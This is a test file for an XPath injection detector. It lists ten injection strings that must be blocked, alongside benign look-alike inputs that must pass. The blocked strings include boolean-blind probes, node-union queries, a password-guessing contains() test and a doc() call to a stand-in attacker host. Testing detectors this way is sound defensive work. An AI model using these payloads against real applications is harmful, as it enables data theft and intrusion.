import { describe, expect, it } from 'vitest';
import { BLOCKING_CONFIDENCE } from '../../src/core/detector.ts';
import type { Field } from '../../src/core/field.ts';
import { injectionXpath } from '../../src/detectors/injection-xpath.ts';
import { recognise } from '../support/field.ts';

type Row = [text: string, overrides: Partial<Field>];

const LOUD: Row[] = [
  ["x' or string-length(name(/*[1]))=4 or 'a'='b", {}],
  ["' or count(/*)=1 or '1'='2", {}],
  ["x']|//user/*[contains(*,'", {}],
  ["' or //user[name='admin'] or 'x'='y", {}],
  ["x' and contains(password,'a') and 'x'='x", {}],
  ["'] | //*", {}],
  ["x' or ancestor::node() or 'a'='b", {}],
  ['count(/child::node())', {}],
  ["') or contains(.,'a", {}],
  ["' and doc('http://evil.example/x') and '1'='1", {}],
];

const QUIET: Row[] = [
  ["O'Brien", {}],
  ["it's a count of 5", {}],
  ["'a' or 'b'", {}],
  ['/api/users', {}],
  ['//cdn.example.com/x.js', {}],
  ['[1] and [2]', {}],
  ['a | b', {}],
  ["don't contains allergens", {}],
  ['price (net) or count', {}],
  ["'quoted' / unquoted", {}],
  ['count(//li) > 3', {}],
  ["//a[contains(@href,'x')]", {}],
  ['count(items)', {}],
];

describe('injection-xpath', () => {
  it.each(LOUD)('blocks %j', (text, overrides) => {
    expect(recognise(injectionXpath, text, overrides)?.confidence ?? 0).toBeGreaterThanOrEqual(BLOCKING_CONFIDENCE);
  });
  it.each(QUIET)('does not block %j', (text, overrides) => {
    expect(recognise(injectionXpath, text, overrides)?.confidence ?? 0).toBeLessThan(0.3);
  });
});
